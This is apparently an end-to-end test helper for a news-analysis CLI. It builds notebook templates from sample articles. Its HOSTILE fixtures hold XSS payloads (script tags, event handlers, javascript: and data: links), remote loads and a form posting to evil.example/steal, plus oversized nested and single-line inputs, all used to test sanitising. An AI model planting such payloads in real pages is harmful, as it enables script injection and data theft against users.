import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rename, writeFile } from 'node:fs/promises';
import { basename, join, resolve } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';

const repoRoot = resolve(fileURLToPath(new URL('.', import.meta.url)), '../..');
/**
 * The CLI bundle, built once before the tests (global-setup.ts): run directly, without
 * scripts/dossier.mjs, whose freshness walk over the sources and esbuild load cost about 0.15 s
 * of CPU per server and per CLI call.
 */
export const CLI_BUNDLE = join(repoRoot, 'dist/cli/dossier.mjs');
/** The folder global-setup.ts made for the templates, for the test workers. */
export const TEMPLATES_ENV = 'DOSSIER_E2E_TEMPLATES';

export const WIRE = resolve(repoRoot, 'test/fixtures/articles/wire-2021-03-16-blinken-austin.txt');
export const WIRE_TITLE = 'Blinken and Austin embark on first major trip';
export const KYODO = {
  title: 'Kyodo: US and Japan ministers meet in Tokyo',
  text: 'TOKYO (Kyodo) - US Secretary of State Antony Blinken and Defense Secretary Lloyd Austin met Toshimitsu Motegi and Nobuo Kishi in Tokyo on Tuesday.\n\nThe four ministers agreed to oppose coercion in the region.',
};
/** One long article: the wire story twenty times (~40,000 characters). */
export const LONG = { title: 'Twenty copies of the Blinken and Austin wire', copies: 20 };
/** A wire story written for the tests: two sentences, each with its own date, people and place. */
export const SEOUL = {
  title: 'Foreign ministers meet in Seoul',
  text: [
    'SEOUL, March 18 (Harbor Wire) - Foreign Minister Kenji Mori met Foreign Minister Lee Min-ho in Seoul on Thursday, officials said.',
    'On March 12, Defense Minister Aiko Sato visited Canberra for talks with Australian officials.',
  ].join('\n\n'),
};

/** Articles written by someone who wants the analyst's machine: every trick at once. */
export const HOSTILE: Record<string, string> = {
  'scripts.html': `<!doctype html><html><head><title>Scripted page</title>
    <meta http-equiv="refresh" content="0; url=http://evil.example/">
    <style>@import url(http://evil.example/a.css); body { background: url(http://evil.example/b.png) }</style>
    <script>alert('script tag')</script></head>
    <body onload="alert('onload')"><article><h1>Scripted page</h1>
    <p>An ordinary first paragraph about the ministry's statement, long enough to be the story.</p>
    <p><img src="http://evil.example/pixel.gif" onerror="alert('onerror')"> A second paragraph
    with a <a href="javascript:alert('link')">javascript link</a> and
    <a href="data:text/html,<script>alert(1)</script>">a data link</a>.</p>
    <svg><script>alert('svg')</script><circle r="4"/></svg>
    <iframe src="http://evil.example/frame"></iframe>
    <p style="background:url(http://evil.example/c.png)">A third paragraph, styled from afar.</p>
    <form action="http://evil.example/steal"><input name="q"></form>
    </article></body></html>`,
  'nested.html': `<!doctype html><title>Deeply nested</title><body>${'<div>'.repeat(3000)}<p>Text at the bottom of three thousand boxes, still an article about talks in Vienna.</p>${'</div>'.repeat(3000)}</body>`,
  'one-line.txt': `One enormous line ${'word '.repeat(120_000)}end.`,
  'markup.md': `# Markdown with markup\n\nA paragraph with <script>alert('md')</script> and <img src=x onerror="alert('md img')">.\n\n[A link](javascript:alert('md link')) and ![pixel](http://evil.example/p.png).\n`,
};

/** Run the `dossier` CLI on a notebook folder, as a user would. */
async function dossier(dir: string, ...args: string[]): Promise<void> {
  await promisify(execFile)(process.execPath, [CLI_BUNDLE, '--notebook', dir, ...args], {
    cwd: repoRoot,
  });
}

/** Each template's filling through the CLI; `files` is a scratch folder for the texts it adds. */
const SEEDS = {
  /** The wire article. */
  annotate: async (dir: string) => {
    await dossier(dir, 'add-text', '--title', WIRE_TITLE, ...wireSource(), '--file', WIRE);
  },
  /** The sample articles with every suggestion accepted. */
  briefing: async (dir: string) => {
    await dossier(dir, 'import', resolve(repoRoot, 'test/fixtures/articles'));
    await dossier(dir, 'suggest', '--accept', '--min-confidence', '0');
  },
  /** LONG with every suggestion accepted (~900 mentions). */
  'reader-long': async (dir: string, files: string) => {
    const sample = (await readFile(WIRE, 'utf8')).trim();
    const file = join(files, 'long.txt');
    await writeFile(file, Array.from({ length: LONG.copies }, () => sample).join('\n\n'));
    await dossier(dir, 'add-text', '--title', LONG.title, '--file', file);
    await dossier(dir, 'suggest', '--accept', '--min-confidence', '0');
  },
  /** The wire article and a second outlet's report. */
  timeline: async (dir: string, files: string) => {
    const second = join(files, 'kyodo.txt');
    await writeFile(second, KYODO.text);
    await dossier(dir, 'add-text', '--title', WIRE_TITLE, ...wireSource(), '--file', WIRE);
    await dossier(
      dir,
      'add-text',
      '--title',
      KYODO.title,
      '--source',
      'Kyodo News',
      '--published',
      '2021-03-16',
      '--file',
      second,
    );
  },
  /** HOSTILE, imported, with every suggestion accepted. */
  hostile: async (dir: string, files: string) => {
    for (const [name, content] of Object.entries(HOSTILE))
      await writeFile(join(files, name), content);
    await dossier(dir, 'import', files);
    await dossier(dir, 'suggest', '--accept', '--min-confidence', '0');
  },
  /** SEOUL. */
  'new-event': async (dir: string, files: string) => {
    const file = join(files, 'seoul.txt');
    await writeFile(file, SEOUL.text);
    await dossier(
      dir,
      'add-text',
      '--title',
      SEOUL.title,
      '--published',
      '2021-03-18',
      '--file',
      file,
    );
  },
} satisfies Record<string, (dir: string, files: string) => Promise<void>>;

export type TemplateName = keyof typeof SEEDS;

function wireSource(): string[] {
  return ['--source', 'Harbor Wire', '--published', '2021-03-16'];
}

/** The folder of a template, named as its copies are (a notebook keeps the name it was made with). */
export function templateDir(root: string, name: TemplateName): string {
  return join(root, `dossier-${name}`);
}

/** How long a worker waits for a template that another worker is building. */
const WAIT_MS = 120_000;
const POLL_MS = 100;

/**
 * The folder of template `name` below `root`, built at the first test that asks for it, so that a
 * run of a few specs (`--grep`, one file) builds only the templates those specs copy. Workers are
 * processes: the first to create the lock folder builds the template beside it and renames it into
 * place whole; the others wait for it to appear (or for the builder's note that it failed).
 */
export async function ensureTemplate(root: string, name: TemplateName): Promise<string> {
  const dir = templateDir(root, name);
  if (existsSync(dir)) return dir;
  const building = join(root, `building-${name}`);
  const failed = join(root, `failed-${name}.txt`);
  try {
    await mkdir(building);
  } catch {
    return waitForTemplate(dir, failed);
  }
  try {
    // Built under its final name (a notebook keeps the name of the folder it was made in).
    const scratch = join(building, basename(dir));
    await mkdir(scratch);
    const files = await mkdtemp(join(building, 'files-'));
    await SEEDS[name](scratch, files);
    await rename(scratch, dir);
    return dir;
  } catch (error) {
    await writeFile(failed, String(error instanceof Error ? error.stack : error));
    throw error;
  }
}

async function waitForTemplate(dir: string, failed: string): Promise<string> {
  const deadline = Date.now() + WAIT_MS;
  while (!existsSync(dir)) {
    if (existsSync(failed))
      throw new Error(
        `building ${dir} failed in another worker:\n${await readFile(failed, 'utf8')}`,
      );
    if (Date.now() > deadline) throw new Error(`${dir} was not built within ${WAIT_MS} ms`);
    await delay(POLL_MS);
  }
  return dir;
}
